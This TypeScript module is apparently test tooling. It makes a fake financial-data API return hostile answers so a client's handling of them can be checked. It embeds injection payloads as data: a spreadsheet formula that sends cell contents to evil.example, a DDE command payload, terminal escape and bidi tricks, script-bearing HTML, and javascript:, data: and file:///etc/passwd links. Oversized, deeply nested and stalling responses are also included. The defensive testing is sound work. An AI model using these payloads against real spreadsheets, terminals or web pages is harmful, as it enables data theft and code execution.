/**
 * The hostile API: answers a compromised or buggy Company Data API could send, written from the
 * spec's field list (docs/api-spec.md), never from our code. Switched on with `startFakeApi({ hostile:
 * true })` or `serve.js --hostile`; every tool answer then carries
 *
 *  - formula-like text in the spec's free-text fields (names, titles, descriptions, notices...):
 *    `=WEBSERVICE(...)`, `+HYPERLINK(...)`, `@SUM(...)`, `-1+1`;
 *  - terminal escapes (CSI, OSC title, C1 CSI, BEL), bidi overrides, U+2028/2029, NUL;
 *  - HTML (`<img onerror>`, `<script>`);
 *  - links that are `javascript:`, `data:`, `file:`, `vbscript:` or look-alikes: always in the
 *    envelope's link, and in the spec's url, source_url and sec_url with one https link in the
 *    rotation (so a good link can be seen to open);
 *
 * and a few tickers (valid by the spec's ticker rule) answer with something worse:
 *
 *  - HUGE   a 200 body of valid JSON streamed in chunks without Content-Length (`hugeBytes`, 50 MB);
 *  - HUGECL the same body announced by Content-Length (a client may refuse it before reading);
 *  - DEEP   `data` nested 100,000 arrays deep (valid JSON);
 *  - MANY   50,000 records in the tool's record array, whatever `limit` asked;
 *  - REDIR  a 302 to another origin's copy of the request;
 *  - RETRY  503 with `Retry-After: 999999999` (31 years);
 *  - RETRYDATE 503 with `Retry-After` an HTTP date in the year 9999.
 */
import type * as http from "http";
import type { Envelope } from "./tool-args";

/** Text that Excel reads as a formula when written through Range.values (and that a CSV would run). */
export const FORMULA_TEXTS = [
  '=WEBSERVICE("https://evil.example/steal?d="&A1)',
  '+HYPERLINK("https://evil.example/","Click for the filing")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
];
/** Text that drives a terminal: colour, a window title (OSC ... BEL), a C1 CSI clear, bidi, separators. */
export const TERMINAL_TEXTS = [
  "\u001b[31mRED\u001b[0m \u001b]0;pwned\u0007title",
  "\u009b2J\u202egnp.exe\u202c Corp",
  "line\u2028para\u2029end\u0000",
];
/** Markup that must show as text. */
export const HTML_TEXTS = ['<img src=x onerror="window.__pwned=1">', "<script>window.__pwned=2</script><b>bold</b>"];
export const HOSTILE_TEXTS: readonly string[] = [...FORMULA_TEXTS, ...TERMINAL_TEXTS, ...HTML_TEXTS];

/** Links that must never be opened; the last one is a good link (so "opens only http(s)" can be seen). */
export const BAD_URLS = ["javascript:window.__pwned=3", " JavaScript:window.__pwned=4", "data:text/html,<script>window.__pwned=5</script>", "file:///etc/passwd", "vbscript:msgbox(1)"];
export const GOOD_URL = "https://good.example/filing";
export const HOSTILE_URLS: readonly string[] = [...BAD_URLS, GOOD_URL];

export const HOSTILE_TICKERS = {
  huge: "HUGE",
  hugeDeclared: "HUGECL",
  deep: "DEEP",
  many: "MANY",
  redirect: "REDIR",
  retryForever: "RETRY",
  retryDate: "RETRYDATE",
} as const;

export const RETRY_FOREVER_SECONDS = 999_999_999;
export const RETRY_DATE = "Fri, 31 Dec 9999 23:59:59 GMT";
export const MANY_ROWS = 50_000;
export const DEEP_LEVELS = 100_000;
export const DEFAULT_HUGE_BYTES = 50 * 1024 * 1024;

/** A filing's form and accession number as a broken source could send them: controls, a 36,000-character text. */
export const PROVENANCE_TEXTS = ["10-K\u0000\u0001\u001b[2J", "0000320193-24-000123\u000b\u0008", "X".repeat(36_000)];

export interface HostileOptions {
  /** Also poison the provenance of each value (form, accession_number): by the spec plain SEC codes. */
  provenance?: boolean;
  /** Size of the HUGE body (default 50 MB). */
  hugeBytes?: number;
  /** Where REDIR points (default: the same path on 127.0.0.2, another origin). */
  redirectTo?: (url: URL) => string;
}

/** What the hostile tickers cost the server: bytes written, requests seen. */
export interface HostileStats {
  hugeRequests: number;
  hugeBytesSent: number;
  deepRequests: number;
}

/** The spec's free-text fields (names, titles, descriptions, notices), in any answer. */
const TEXT_FIELDS = new Set([
  "name", "title", "company", "owner", "member", "description", "manager", "issuer", "notice", "rationale", "notes",
  "source", "role", "quote", "text", "asset_as_filed", "summary_markdown", "investor", "control_basis", "citation",
  "business_summary", "label", "buyer_names", "unlisted_competitors", "citations", "industry", "ceo",
]);
/** The spec's link fields. */
const URL_FIELDS = new Set(["url", "source_url", "sec_url"]);

type Json = unknown;

/** Rewrites every free-text and link field of an answer, cycling through the hostile values. */
export class Poisoner {
  private t = 0;
  private p = 0;
  constructor(private readonly provenance = false) {}
  private u = 0;
  private l = 0;
  text(): string {
    return HOSTILE_TEXTS[this.t++ % HOSTILE_TEXTS.length];
  }
  url(): string {
    return HOSTILE_URLS[this.u++ % HOSTILE_URLS.length];
  }

  private value(key: string, v: Json): Json {
    if (URL_FIELDS.has(key) && typeof v === "string") return this.url();
    if (this.provenance && (key === "form" || key === "accession_number") && typeof v === "string") return PROVENANCE_TEXTS[this.p++ % PROVENANCE_TEXTS.length];
    if (TEXT_FIELDS.has(key)) {
      if (typeof v === "string") return this.text();
      if (Array.isArray(v) && v.every((x) => typeof x === "string")) return v.map(() => this.text());
    }
    return this.walk(v);
  }

  walk(v: Json): Json {
    if (Array.isArray(v)) return v.map((x) => this.walk(x));
    if (v && typeof v === "object") {
      const out: Record<string, Json> = {};
      for (const [k, x] of Object.entries(v as Record<string, Json>)) out[k] = this.value(k, x);
      return out;
    }
    return v;
  }

  envelope(env: Envelope): Envelope {
    return {
      ...env,
      text: `${this.text()}\n${env.text}`,
      data: this.walk(env.data) as Record<string, unknown>,
      // The check-the-figures link is always a bad one (the data's links include a good one).
      link: BAD_URLS[this.l++ % BAD_URLS.length],
    };
  }
}


/** MANY_ROWS small records (about 5 MB in all: under the client's byte cap, so only the row cut can stop them). */
function manyRows(tool: string, ticker: string): Record<string, unknown> {
  if (tool === "get_headlines") {
    const headlines = Array.from({ length: MANY_ROWS }, (_, i) => ({ title: `h${i}`, url: GOOD_URL, source: "m", published: "2026-01-02" }));
    return { ticker, headlines, attribution: { name: "Many", url: GOOD_URL } };
  }
  const key = tool === "list_filings" ? "filings" : tool === "get_institutional_holders" ? "holders" : "trades";
  return { ticker, [key]: Array.from({ length: MANY_ROWS }, (_, i) => ({ form: "4", filing_date: "2026-01-02", owner: `o${i}` })) };
}

function writeJson(res: http.ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  const text = JSON.stringify(body);
  res.writeHead(status, { "Content-Type": "application/json; charset=utf-8", "Content-Length": String(Buffer.byteLength(text)), ...headers });
  res.end(text);
}

/** Stream `bytes` of valid JSON ({"text":"...","data":{"filler":"xxxx..."},"link":""}) in 64 KiB chunks, stopping when the client goes. */
function streamHuge(res: http.ServerResponse, bytes: number, declare: boolean, stats: HostileStats): void {
  const head = '{"text":"huge","link":"","data":{"filler":"';
  const tail = '"}}';
  const fill = Math.max(0, bytes - head.length - tail.length);
  const headers: Record<string, string> = { "Content-Type": "application/json; charset=utf-8", "X-Quota-Remaining": "1000" };
  if (declare) headers["Content-Length"] = String(head.length + fill + tail.length);
  res.writeHead(200, headers);
  const chunk = Buffer.alloc(64 * 1024, "x");
  let left = fill;
  let gone = false;
  res.on("close", () => (gone = true));
  const send = (b: Buffer | string) => {
    stats.hugeBytesSent += typeof b === "string" ? Buffer.byteLength(b) : b.length;
    return res.write(b);
  };
  send(head);
  const pump = () => {
    while (!gone && left > 0) {
      const n = Math.min(left, chunk.length);
      left -= n;
      if (!send(n === chunk.length ? chunk : chunk.subarray(0, n))) return void res.once("drain", pump);
    }
    if (!gone) res.end(tail);
  };
  pump();
}

function deepBody(): string {
  return `{"text":"deep","link":"","data":{"nest":${"[".repeat(DEEP_LEVELS)}${"]".repeat(DEEP_LEVELS)}}}`;
}

/**
 * The hostile tickers' answers (after authentication and the quota check, as a real API would).
 * Returns false when `ticker` is not one of them.
 */
export function hostileAnswer(tool: string, url: URL, res: http.ServerResponse, opts: HostileOptions, stats: HostileStats): boolean {
  const ticker = (url.searchParams.get("ticker") ?? "").toUpperCase();
  switch (ticker) {
    case HOSTILE_TICKERS.huge:
    case HOSTILE_TICKERS.hugeDeclared:
      stats.hugeRequests++;
      streamHuge(res, opts.hugeBytes ?? DEFAULT_HUGE_BYTES, ticker === HOSTILE_TICKERS.hugeDeclared, stats);
      return true;
    case HOSTILE_TICKERS.deep: {
      stats.deepRequests++;
      const body = deepBody();
      res.writeHead(200, { "Content-Type": "application/json; charset=utf-8", "Content-Length": String(body.length), "X-Quota-Remaining": "1000" });
      res.end(body);
      return true;
    }
    case HOSTILE_TICKERS.many:
      writeJson(res, 200, { text: "many", data: manyRows(tool, ticker), link: GOOD_URL }, { "X-Quota-Remaining": "1000" });
      return true;
    case HOSTILE_TICKERS.redirect: {
      const to = opts.redirectTo ? opts.redirectTo(url) : `http://127.0.0.2:${url.port}${url.pathname}${url.search.replace(/REDIR/i, "AAPL")}`;
      res.writeHead(302, { Location: to, "Content-Length": "0" });
      res.end();
      return true;
    }
    case HOSTILE_TICKERS.retryForever:
      writeJson(res, 503, { detail: "Switched off for a while" }, { "Retry-After": String(RETRY_FOREVER_SECONDS) });
      return true;
    case HOSTILE_TICKERS.retryDate:
      writeJson(res, 503, { detail: "Switched off until further notice" }, { "Retry-After": RETRY_DATE });
      return true;
    default:
      return false;
  }
}

